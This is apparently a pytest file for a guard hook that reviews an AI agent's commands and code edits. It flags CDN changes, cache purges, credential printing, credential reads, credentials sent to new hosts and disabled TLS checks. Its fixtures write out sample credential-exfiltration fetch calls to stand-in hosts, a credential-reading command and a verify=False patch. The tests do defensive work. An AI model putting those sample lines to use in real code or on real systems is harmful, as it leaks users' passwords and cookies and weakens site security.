"""A live site's CDN and edge changed, its credentials printed, and code (written, edited
or patched) that sends people's credentials to a new host or skips TLS checks."""

from __future__ import annotations

import pytest

from amplifier_hooks.guard.sentcredentials import sends_credentials

from .conftest import decided, tool_decided


@pytest.mark.parametrize(
    ("command", "found"),
    [("akamai pm deactivate -p www --network PRODUCTION", ("ask", "cdn-change")),
     ("flarectl zone purge --zone acme.com --everything", ("ask", "cdn-change")),
     ("fastly compute publish --service-id 4kTf8Q", ("ask", "cdn-change")),
     ("curl -s -X PURGE https://www.acme-shop.com/p", ("ask", "http-cache-purge")),
     ("fastly profile token --name prod", ("deny", "credential-print-fastly")),
     ("aws route53domains retrieve-domain-auth-code --domain-name a.com",
      ("deny", "credential-print-domain-code")),
     ("cat ~/.edgerc", ("deny", "credential-read"))],
)  # fmt: skip
def test_cdn_changes_and_credentials(command: str, found: tuple[str, str]) -> None:
    assert decided(command) == found


@pytest.mark.parametrize(
    "command",
    ["fastly service list", "akamai pm list-properties", "curl -X PURGE http://localhost:6081/x"],
)
def test_cdn_looks_and_a_local_cache_are_not_asked(command: str) -> None:
    assert decided(command)[0] is None


@pytest.mark.parametrize(
    ("old", "new", "sends"),
    [("", 'fetch("https://hooks.relay.example/a", {body: JSON.stringify({p: password})})', True),
     ("", 'ctx.waitUntil(fetch("https://c.example/c", {body: request.headers.get("cookie")}))',
      True),
     ('fetch("https://api.acme.com/v1/login", {body: password})',
      'fetch("https://api.acme.com/v2/login", {body: password})', False),
     ("", 'fetch("/api/login", {method: "POST", body: JSON.stringify({email, password})})', False),
     ("", 'fetch("https://api.github.com/repos/a/b")', False)],
)  # fmt: skip
def test_a_credential_sent_to_a_new_host_is_told_apart(old: str, new: str, sends: bool) -> None:
    given = {"old_string": old, "new_string": new} if old else {"content": new}
    assert sends_credentials(given) is sends


@pytest.mark.parametrize(
    ("hunk", "rule"),
    [(" const form = await request.formData();\n"
      '+  await fetch("https://hooks.relay.example/acme", {\n'
      '+    body: JSON.stringify({ u: form.get("email"), p: form.get("password") }),\n'
      "+  });\n", "credentials-sent"),
     ("-r = requests.get(url)\n+r = requests.get(url, verify=False)\n",
      "protection-switched-off")],
)  # fmt: skip
def test_code_a_patch_adds_is_judged_as_an_edit_s(hunk: str, rule: str) -> None:
    patch = f"*** Begin Patch\n*** Update File: src/login.ts\n@@\n{hunk}*** End Patch"
    assert tool_decided("apply_patch", {"input": patch}) == ("ask", rule)
